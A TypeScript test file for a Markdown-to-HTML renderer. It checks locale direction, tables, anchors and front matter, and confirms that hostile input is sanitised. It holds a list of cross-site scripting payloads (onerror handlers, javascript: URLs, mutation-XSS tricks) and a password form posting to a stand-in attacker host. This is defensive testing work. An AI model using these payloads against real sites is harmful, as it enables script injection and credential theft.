import { describe, expect, it } from '@jest/globals';
import * as fc from 'fast-check';
import { renderBody } from './render-body.js';

const inEnglish = (body: string) => renderBody(body, { locale: 'en', title: 'Pricing' });

describe('a body as HTML', () => {
  it('is one article in the language and direction of its locale', () => {
    expect(inEnglish('Text.')).toBe(
      '<article lang="en" dir="ltr">\n<h1><bdi>Pricing</bdi></h1>\n<p>Text.</p>\n</article>\n',
    );
    expect(renderBody('# نص', { locale: 'ar-eg', title: '' })).toContain(
      '<article lang="ar-EG" dir="rtl">\n<h1 id="h-نص">نص</h1>',
    );
  });

  it('has tables with their alignment as classes, strikethrough, task lists and addresses as links', () => {
    expect(inEnglish('| a | b |\n|:-:|--:|\n| 1 | 2 |\n')).toMatch(
      /<td class="center">1<\/td>\s*<td class="end">2<\/td>/u,
    );
    expect(inEnglish('~~old~~')).toContain('<s>old</s>');
    expect(inEnglish('- [x] told\n- [ ] asked\n- [link](#a)\n')).toMatch(
      /<li class="done">told<\/li>\s*<li class="todo">asked<\/li>\s*<li><a /u,
    );
    expect(inEnglish('See https://example.com/a.')).toContain(
      '<a href="https://example.com/a" target="_blank" rel="noopener noreferrer" dir="ltr">',
    );
  });

  it('leaves out front matter, and only that', () => {
    expect(inEnglish('---\ntitle: Tiers\n---\n\nText.')).toContain('</h1>\n<p>Text.</p>');
    expect(inEnglish('\uFEFF+++\r\na = 1\r\n+++\r\nText.')).toContain('</h1>\n<p>Text.</p>');
    expect(inEnglish('---\nnever closed')).toContain('never closed');
    expect(inEnglish('Text.\n\n---\n\nMore.\n\n---\n')).toContain('More.');
  });

  it('may be a document of HTML, which is not read as Markdown', () => {
    const html =
      '<!DOCTYPE html><html><head><title>No</title></head><body><h1>A</h1>\n\n    <p>*b*</p>';
    const rendered = inEnglish(html);
    expect(rendered).toContain('<p>*b*</p>');
    expect(rendered).not.toContain('No');
    expect(rendered.match(/<h1/gu)).toHaveLength(1);
  });

  it('may have Markdown inside HTML, where a tag says so', () => {
    expect(inEnglish('Before\n<aside markdown="1" class="x">\n  *a*\n</aside>\n')).toMatch(
      /<p>Before<\/p>\s*<aside>\s*<p><em>a<\/em><\/p>\s*<\/aside>/u,
    );
    expect(inEnglish('```\n<div markdown="1">\n```')).toContain(
      '&lt;div markdown="1"&gt;\n</code>',
    );
    expect(inEnglish('<div>\n*a*\n</div>')).toContain('*a*');
  });

  it('can point into itself, by names that are nobody else’s', () => {
    const rendered = inEnglish(
      '[down](#the-price)\n\n# The price!\n\n# The price\n\n<a name="API">x</a>',
    );
    expect(rendered).toContain('<a href="#h-the-price">');
    expect(rendered).toContain('<h1 id="h-the-price">');
    expect(rendered).toContain('<h1 id="h-the-price-1">');
    expect(rendered).toContain('id="h-API"');
    expect(rendered).not.toMatch(/(?:id|name)="API"/u);
  });

  it('keeps relative images and links, and images in the text itself', () => {
    expect(inEnglish('![a](/b.png)')).toContain('<img src="/b.png" alt="a" loading="lazy" />');
    expect(inEnglish('[a](b.md)')).toContain('<a href="b.md" rel="noopener noreferrer">');
    expect(inEnglish('![a](data:image/png;base64,AAAA)')).toContain(
      'src="data:image/png;base64,AAAA"',
    );
  });
});

describe('a body that would do something', () => {
  const ATTACKS = [
    '<script>alert(1)</script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '<img src="x" onerror="alert(1)"//>',
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jAvAsCrIpT:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript&colon;alert(1)">x</a>',
    '<a href="vbscript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="//evil.example/">x</a>',
    '[x](javascript:alert(1))',
    '[x](javascript&colon;alert(1))',
    '[x]: javascript:alert(1)\n\n[x]',
    '![x](javascript:alert(1))',
    '![x](data:image/svg+xml;base64,PHN2Zz4=)',
    '![x](data:image/png,<svg onload=alert(1)>)',
    '<img src="data:text/html;base64,AAAA">',
    '<img src="//evil.example/x.png">',
    '<img srcset="javascript:alert(1)">',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<style>body { display: none }</style>',
    '<link rel="stylesheet" href="https://evil.example/a.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/"><input name="password"><button>Go</button></form>',
    '<details ontoggle=alert(1) open>x</details>',
    '<div onclick="alert(1)" id="x" class="note">x</div>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<textarea></textarea><script>alert(1)</script></textarea>',
    '<template><script>alert(1)</script></template>',
    '<xmp><img src=x onerror=alert(1)></xmp>',
    '<plaintext><script>alert(1)</script>',
    '<!--><script>alert(1)</script>-->',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<p><a href="https://a.example" target="_self" rel="opener">x</a></p>',
    '```"><script>alert(1)</script>\nx\n```',
    '<code class="language-x note missing">x</code>',
    '<video src=x onerror=alert(1)><source onerror=alert(1)></video>',
  ];

  it('does nothing', () => {
    for (const attack of ATTACKS) {
      for (const body of [attack, `<html>${attack}`, `> - ${attack}`])
        expectHarmless(inEnglish(body));
    }
  });

  const PIECES = [
    ' ',
    '\n',
    ...`< > " ' \` / = & <script <img src= onerror=alert(1) <svg <style> <!-- --> <a href="
    javascript: ) [x]( </ <p title="`.split(/\s+/u),
  ];

  it('does nothing, however its parts are put together', () => {
    const pieces = fc.constantFrom(...PIECES);
    const bodies = fc.array(pieces, { maxLength: 25 }).map((each) => each.join(''));
    fc.assert(
      fc.property(bodies, (body) => expectHarmless(inEnglish(body))),
      { numRuns: 500 },
    );
  });

  it('does nothing in its title or where it is shown as it is written', () => {
    const rendered = renderBody(`${'> '.repeat(500)}<script>alert(1)</script>`, {
      locale: 'en',
      title: '<script>alert(1)</script>',
    });
    expectHarmless(rendered);
  });
});

const TAG = /<\/?([a-z0-9]+)((?:\s+[a-z-]+(?:="[^"<>]*")?)*)\s*\/?>/giu;
const HARMLESS_TAGS =
  /^(?:a|article|aside|bdi|blockquote|br|code|details|div|em|h[1-6]|hr|img|li|ol|p|pre|s|span|strong|table|tbody|td|ul)$/u;
const HARMLESS_ATTRIBUTES =
  /^(?:alt|class|dir|href|id|lang|loading|open|rel|src|start|target|title)$/u;

/** Whatever is a tag is a known one with known attributes, and nothing else has an angle bracket. */
function expectHarmless(html: string): void {
  expect(html.replace(TAG, '')).not.toMatch(/[<>]/u);
  for (const [tag, name = '', attributes = ''] of html.matchAll(TAG)) {
    expect([tag, HARMLESS_TAGS.test(name)]).toEqual([tag, true]);
    for (const [, attribute = '', value = ''] of attributes.matchAll(
      /([a-z-]+)(?:="([^"]*)")?/gu,
    )) {
      expect([tag, HARMLESS_ATTRIBUTES.test(attribute)]).toEqual([tag, true]);
      if (attribute === 'class') expect(value).toMatch(/^(?:note|written|missing|language-\S*)$/u);
      if (attribute === 'id') expect(value).toMatch(/^h-/u);
      if (attribute === 'target') expect(value).toBe('_blank');
      if (attribute === 'rel') expect(value).toBe('noopener noreferrer');
      if (attribute !== 'href' && attribute !== 'src') continue;
      expect(value).not.toMatch(
        /^\s*(?:\/\/|\\\\|(?!https?:|mailto:|tel:|data:image\/png;)[a-z.+-]+:)/iu,
      );
    }
  }
}

describe('mixed directions', () => {
  const inArabic = (body: string) => renderBody(body, { locale: 'ar', title: 'عنوان' });

  it('leave code and addresses running from left to right', () => {
    expect(inArabic('نص `a.b()`')).toContain('<code dir="ltr">a.b()</code>');
    expect(inArabic('```sh\nls -l\n```')).toMatch(
      /<pre dir="ltr"><code class="language-sh" dir="ltr">/u,
    );
    expect(inArabic('انظر <https://example.com/a?b>')).toMatch(/<a [^>]*dir="ltr"[^>]*>https/u);
  });

  it('keep a sentence together that runs against its page, and leave others alone', () => {
    expect(inArabic('Is it you?')).toContain('<p><bdi>Is it you?</bdi></p>');
    expect(inArabic('- Is it *you*?')).toContain('<li><bdi>Is it <em>you</em>?</bdi></li>');
    expect(inArabic('هل هذا GitHub؟')).toContain('<p>هل هذا GitHub؟</p>');
    expect(inEnglish('هل هذا؟')).toContain('<p><bdi>هل هذا؟</bdi></p>');
  });
});

describe('a hostile body', () => {
  it('that is nested too deeply is shown as it is written, in words of its language', () => {
    const body = `${'> '.repeat(70)}deep`;
    const rendered = renderBody(body, { locale: 'de', title: '' });
    expect(rendered).toContain(
      '<p class="note" lang="de" dir="ltr">Dieser Text ist zu verschachtelt',
    );
    expect(rendered).toContain('&gt; &gt; deep</pre>');
    expect(inEnglish('<div>'.repeat(2000))).toContain('class="note"');
  });

  it('never loses words to nesting that is still read', () => {
    for (let depth = 1; depth < 130; depth += 1) {
      expect(inEnglish(`${'> '.repeat(depth)}deep`)).toContain('deep');
      expect(inEnglish(`${'- '.repeat(depth)}deep`)).toContain('deep');
    }
  });

  it('that names one long address very often does not grow', () => {
    const body = `[a]: http://x/${'x'.repeat(3000)}\n\n${'[a] '.repeat(10_000)}`;
    expect(inEnglish(body).length).toBeLessThan(2 * body.length);
    expect(inEnglish('[a]: http://x.example/\n\n[a] [a] [a]')).not.toContain('class="note"');
  });

  it('of thirty thousand characters of anything is read', () => {
    const hostile =
      '*a_|[|[a](|> |a\n-\n|~~a|<a |![|**a|`|-a-\n|<!--|<div>|<a><b>|<p>|&a;|[a]: b\n|\\|<|http://a/![|- [x] |<li>|<p markdown="1">\n';
    for (const each of ['|a', '-|-\n', ...hostile.split('|')]) {
      const body = each.repeat(30_000 / each.length);
      expect(inEnglish(body).length).toBeLessThan(10 * body.length);
    }
  });
});
